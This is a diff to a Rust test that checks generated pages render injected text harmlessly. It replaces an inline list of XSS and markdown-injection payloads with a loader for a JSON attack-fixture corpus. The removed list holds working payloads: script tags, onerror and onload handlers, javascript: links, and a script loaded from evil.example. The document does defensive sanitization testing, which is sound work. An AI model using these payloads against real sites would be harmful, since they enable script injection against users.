@@ -1,6 +1,7 @@
 //! Texts that want to be more than texts.
 
 use std::fs;
+use std::path::Path;
 
 use acs_codegen::diag::Style;
 use acs_codegen::source::{SourceMap, Spanned};
@@ -12,45 +13,21 @@ use serde_json::{Value, json};
 use crate::page::pages;
 use crate::{ours, shared};
 
-/// Each would do harm if it came through.
-const ATTACKS: &[&str] = &[
-    "<script>alert(1)</script>",
-    "</p></main><script src=//evil.example/x.js></script>",
-    "<img src=x onerror=alert(1)>",
-    "<svg/onload=alert(1)>",
-    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-    "<style>*{display:none}</style>",
-    "<a href=\"javascript:alert(1)\">here</a>",
-    "[here](javascript:alert(1)) and [there](JaVaScRiPt:alert(1))",
-    "[here](data:text/html;base64,PHNjcmlwdD4=)",
-    "[here](vbscript:x) <javascript:alert(1)>",
-    "![x](https://evil.example/pixel.png)",
-    "[![x](https://evil.example/a.png)](https://evil.example)",
-    "[a [b](https://x.example) c](https://y.example)",
-    "[here](https://x.example/\"onmouseover=alert(1)//)",
-    "[here](<https://x.example/\" onclick=\"alert(1)>)",
-    "[here]: javascript:alert(1)\n\n[here]",
-    "<https://x.example/\"onclick=alert(1)>",
-    "<!-- explorer -->",
-    "--> <!--",
-    "]]> <![CDATA[ x ]]>",
-    "<?php echo 1 ?> <!DOCTYPE x>",
-    "</code></pre></details></section></body></html>",
-    "| a | b |\n|---|\n| <b> | c | d |\n| e",
-    "|:-:|\n|---|---|---|\n| `|` | x",
-    "# one\n\n## two {#main}\n\nthree\n=====",
-    "- a\n  - b\n    > - c\n\n        d\n1) e\n9999999999. f",
-    "```html\n<script>alert(1)</script>",
-    "```\" onclick=\"alert(1)\n```",
-    "text[^1]\n\n[^1]: a note",
-    "- [ ] to do\n- [x] done",
-    "\u{202e}right to left\u{2066} isolate \u{200b}\u{feff}",
-    "{{ frame.policy }} {% include \"x\" %} {# x #}",
-    "&lt;script&gt; &amp;lt; &#60;b&#62; &#x3c;",
-    "~~gone~~ *a **b* c** __d_ `e",
-    "> > > > > > > > > > deep",
-    "a\\\nb  \nc\\",
-];
+/// The texts of `sdk-tests/fixtures/attacks/`: each would do harm if it came through. The longest are
+/// cut.
+fn attacks() -> Vec<String> {
+    let path =
+        Path::new(env!("CARGO_MANIFEST_DIR")).join("../../sdk-tests/fixtures/attacks/texts.json");
+    let corpus: Value = serde_json::from_str(&fs::read_to_string(path).unwrap()).unwrap();
+    let text = |it: &Value| {
+        let times = it["times"].as_u64().unwrap_or(1).min(500);
+        it["text"]
+            .as_str()
+            .unwrap()
+            .repeat(usize::try_from(times).unwrap())
+    };
+    corpus.as_array().unwrap().iter().map(text).collect()
+}
 
 /// The same specs with another text wherever there is one for people.
 fn speaking(mut folder: Folder, texts: &[String]) -> Folder {
@@ -147,7 +124,8 @@ fn harmless(folder: &Folder) {
 
 #[test]
 fn attacks_come_out_as_text_wherever_they_stand() {
-    let texts: Vec<String> = ATTACKS.iter().map(|it| (*it).to_owned()).collect();
+    let texts = attacks();
+    assert!(texts.len() > 150);
     // There are so many places that every text comes to all kinds of them.
     harmless(&speaking(ours(), &texts));
 }
